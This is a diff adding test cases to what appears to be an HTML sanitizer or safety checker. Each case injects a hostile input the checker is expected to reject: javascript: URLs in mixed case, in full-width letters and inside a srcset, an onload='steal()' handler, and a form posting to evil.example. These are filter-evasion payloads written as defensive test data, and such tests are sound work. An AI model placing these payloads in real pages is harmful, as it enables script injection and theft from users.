@@ -120,6 +120,22 @@ CASES: list[tuple[str, str, Change, str, bool, str]] = [
      lambda h, a: sub(h, 'href="https://doi.org/10.1126/sciadv.aau7042"',
                       'href=" java\tscript:alert(1)"'),
      "safe-html", False, "javascript: URL in href="),
+    # javascript: however written: case, full-width letters NFKC folds, in a srcset's list
+    ("mixed-case-javascript", "us",
+     lambda h, a: sub(h, 'href="https://doi.org/10.1126/sciadv.aau7042"',
+                      'href="JaVaScRiPt:alert(1)"'),
+     "safe-html", False, "javascript: URL in href="),
+    ("full-width-javascript", "fr",
+     lambda h, a: sub(h, "<h2>", '<h2><a href="\uff4a\uff41\uff56\uff41\uff53\uff43\uff52'
+                      '\uff49\uff50\uff54:alert(1)"></a>'),
+     "safe-html", False, "javascript: URL in href="),
+    ("javascript-in-srcset", "us",
+     lambda h, a: sub(h, 'width="1" height="1"', 'width="1" height="1" '
+                      'srcset="https://example.org/a.png 1x,javascript:alert(1) 2x"'),
+     "safe-html", False, "javascript: URL in srcset="),
+    ("event-handler-on-the-counter", "fr",
+     lambda h, a: sub(h, 'width="1" height="1"', 'width="1" height="1" onload="steal()"'),
+     "safe-html", False, "onload= on <img>"),
     ("form-added", "fr",
      lambda h, a: sub(h, "<h2>", '<form action="https://evil.example/"><input></form><h2>'),
      "safe-html", False, "<form https://evil.example/>"),
